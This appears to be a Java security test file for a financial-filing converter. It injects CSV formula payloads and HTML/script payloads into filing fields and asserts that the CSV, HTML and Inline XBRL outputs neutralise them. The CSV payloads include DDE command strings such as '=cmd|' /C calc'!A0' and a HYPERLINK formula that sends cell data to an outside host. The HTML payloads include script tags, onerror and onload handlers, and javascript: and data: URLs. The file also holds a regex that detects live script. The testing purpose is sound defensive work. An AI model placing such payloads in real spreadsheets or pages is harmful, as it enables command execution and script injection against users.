package org.finfile.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.finfile.attack.Attack.codes;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * Text that becomes live in what finfile writes: spreadsheet formulas in CSV cells, and markup,
 * {@code javascript:} URLs and event handlers in HTML and Inline XBRL. Such a filing is valid,
 * so each exits 0 and its output is checked: no CSV cell a spreadsheet would run, no live script
 * on the page, and the payload's text present (escaped), so a check cannot pass vacuously.
 */
final class TextAttacks {
  private TextAttacks() {}

  private static final Pattern LIVE_SCRIPT = Pattern.compile(
      "<\\s*(script|iframe|object|embed|svg|base)\\b|<[^>]*\\son[a-z]+\\s*=|<[^>]*=\\s*[\"']?\\s*(javascript|vbscript|data):",
      Pattern.CASE_INSENSITIVE);

  static List<Attack> formulas() {
    List<Attack> list = new ArrayList<>();
    String[][] notes = {
        {"formula-equals", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"},
        {"formula-plus", "+SUM(1,2)*cmd|' /C calc'!A0", "+SUM(1,2)*cmd|' /C calc'!A0"},
        {"formula-minus", "-2+3+cmd|' /C notepad'!A0", "-2+3+cmd|' /C notepad'!A0"},
        {"formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"formula-tab", "&#9;=1+1", "\t=1+1"},
        {"formula-carriage-return", "&#13;=1+1", "\r=1+1"},
        {"formula-indented", "  =cmd|' /C calc'!A0", "  =cmd|' /C calc'!A0"},
        {"formula-hyperlink", "=HYPERLINK(&quot;http://example.net/x?&quot;&amp;A1,&quot;open&quot;)",
            "=HYPERLINK(\"http://example.net/x?\"&A1,\"open\")"}};
    for (String[] n : notes) {
      list.add(new Attack(n[0] + "-in-text-fact", "CSV formula injection",
          env -> Inputs.of(Fixture.filing().set("NOTE", n[1]).write(env)), csvDoors(), csvCheck(n[2])));
    }
    list.add(new Attack("formula-in-label", "CSV formula injection",
        env -> Inputs.of(Fixture.filing().set("CASH_LABEL", "=1+cmd|' /C calc'!A0").write(env)), csvDoors(), csvCheck(null)));
    list.add(new Attack("formula-indented-in-label", "CSV formula injection",
        env -> Inputs.of(Fixture.filing().set("NOTE_LABEL", "   @SUM(9)*cmd|' /C calc'!A0").write(env)), csvDoors(), csvCheck(null)));
    list.add(new Attack("formula-in-role-definition", "CSV formula injection",
        env -> Inputs.of(Fixture.filing().set("ROLE_DEFINITION", "=cmd|' /C calc'!A0 statement").write(env)),
        codes(Door.STATEMENTS_CSV, 0), csvCheck(null)));
    return list;
  }

  private static java.util.Map<Door, Integer> csvDoors() {
    return codes(Door.CSV, 0, Door.STATEMENTS_CSV, 0, Door.XBRL_CSV, 0);
  }

  /** No cell a spreadsheet would run; in xBRL-CSV, {@code exact} (when given) written as it is. */
  private static Attack.Check csvCheck(String exact) {
    return (door, run) -> {
      if (run.result().code() != 0) {
        return;
      }
      List<List<String>> cells = new ArrayList<>();
      for (Path file : files(run.out(), ".csv")) {
        cells.addAll(Csv.parse(Files.readString(file, StandardCharsets.UTF_8)));
      }
      assertThat(cells).as("CSV rows written").isNotEmpty();
      if (door == Door.XBRL_CSV) {
        if (exact != null) {
          assertThat(cells).as("xBRL-CSV is data: the value exactly").anySatisfy(row -> assertThat(row).contains(exact));
        }
        return;
      }
      for (List<String> row : cells) {
        for (String cell : row) {
          assertThat(Csv.runsAsFormula(cell)).as("cell %s of row %s runs as a formula", cell, row).isFalse();
        }
      }
    };
  }

  static List<Attack> markup() {
    List<Attack> list = new ArrayList<>();
    String xhtml = "xmlns=\"http://www.w3.org/1999/xhtml\"";
    String[][] payloads = {
        {"script-text-in-text-fact", "NOTE", "&lt;script&gt;alert('note')&lt;/script&gt;"},
        {"script-text-in-label", "CASH_LABEL", "&lt;script&gt;alert('label')&lt;/script&gt;"},
        {"attribute-breakout-in-label", "CASH_LABEL", "&quot;&gt;&lt;img src=x onerror=alert('label')&gt;"},
        {"script-text-in-role-definition", "ROLE_DEFINITION", "&lt;script&gt;alert('role')&lt;/script&gt;"},
        {"javascript-url-in-text-fact", "NOTE", "javascript:alert('note')"},
        {"cdata-markup-in-text-fact", "NOTE", "<![CDATA[</td></tr></table><script>alert('cdata')</script>]]>"},
        {"script-text-in-footnote", "FOOTNOTE", "&lt;script&gt;alert('fn')&lt;/script&gt;"},
        {"script-element-in-footnote", "FOOTNOTE", "<script " + xhtml + ">alert('fn')</script>"},
        {"javascript-href-in-footnote", "FOOTNOTE", "<a " + xhtml + " href=\"javascript:alert('fn')\">see alert('fn')</a>"},
        {"onerror-img-in-footnote", "FOOTNOTE", "<img " + xhtml + " src=\"x\" onerror=\"alert('fn')\" alt=\"alert('fn')\"/>"},
        {"svg-onload-in-footnote", "FOOTNOTE", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('fn')\"/>alert('fn')"},
        {"iframe-data-url-in-footnote", "FOOTNOTE", "<iframe " + xhtml + " src=\"data:text/html,alert('fn')\"/>alert('fn')"}};
    for (String[] p : payloads) {
      // Markup inside a footnote is refused today (exit 3, "not supported yet"); text is rendered, escaped.
      int code = p[1].equals("FOOTNOTE") && p[2].startsWith("<") ? 3 : 0;
      list.add(new Attack(p[0], "HTML/script injection", env -> Inputs.of(Fixture.filing().set(p[1], p[2]).write(env)),
          codes(Door.HTML, code, Door.IXBRL, code), htmlCheck()));
    }
    return list;
  }

  /** No live script on the page, and the payload's {@code alert(} shown as text. */
  private static Attack.Check htmlCheck() {
    return (door, run) -> {
      if (run.result().code() != 0) {
        return;
      }
      String page = Files.readString(run.out(), StandardCharsets.UTF_8);
      assertThat(LIVE_SCRIPT.matcher(page).results().map(m -> m.group()).toList()).as("live script on the page").isEmpty();
      assertThat(page).as("the payload is shown, as text").contains("alert(");
    };
  }

  static List<Path> files(Path out, String suffix) throws IOException {
    if (out == null || !Files.exists(out, LinkOption.NOFOLLOW_LINKS)) {
      return List.of();
    }
    try (Stream<Path> s = Files.walk(out)) {
      return s.filter(p -> Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS) && p.toString().endsWith(suffix)).sorted().toList();
    }
  }

  /** RFC 4180 cells, and what a spreadsheet takes for a formula. */
  static final class Csv {
    private static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?([eE][-+]?\\d+)?");

    private Csv() {}

    static boolean runsAsFormula(String cell) {
      if (cell.isEmpty() || NUMBER.matcher(cell).matches()) {
        return false;
      }
      if (cell.charAt(0) == '\t' || cell.charAt(0) == '\r') {
        return true;
      }
      String trimmed = cell.replaceFirst("^ +", "");
      return !trimmed.isEmpty() && "=+-@".indexOf(trimmed.charAt(0)) >= 0;
    }

    static List<List<String>> parse(String text) {
      List<List<String>> rows = new ArrayList<>();
      List<String> row = new ArrayList<>();
      StringBuilder cell = new StringBuilder();
      boolean quoted = false;
      boolean any = false;
      for (int i = 0; i < text.length(); i++) {
        char c = text.charAt(i);
        if (quoted) {
          if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
            cell.append('"');
            i++;
          } else if (c == '"') {
            quoted = false;
          } else {
            cell.append(c);
          }
        } else if (c == '"') {
          quoted = true;
          any = true;
        } else if (c == ',') {
          row.add(cell.toString());
          cell.setLength(0);
          any = true;
        } else if (c == '\n' || c == '\r') {
          if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
            i++;
          }
          if (any || cell.length() > 0) {
            row.add(cell.toString());
            rows.add(row);
          }
          row = new ArrayList<>();
          cell.setLength(0);
          any = false;
        } else {
          cell.append(c);
          any = true;
        }
      }
      if (any || cell.length() > 0) {
        row.add(cell.toString());
        rows.add(row);
      }
      return rows;
    }
  }
}
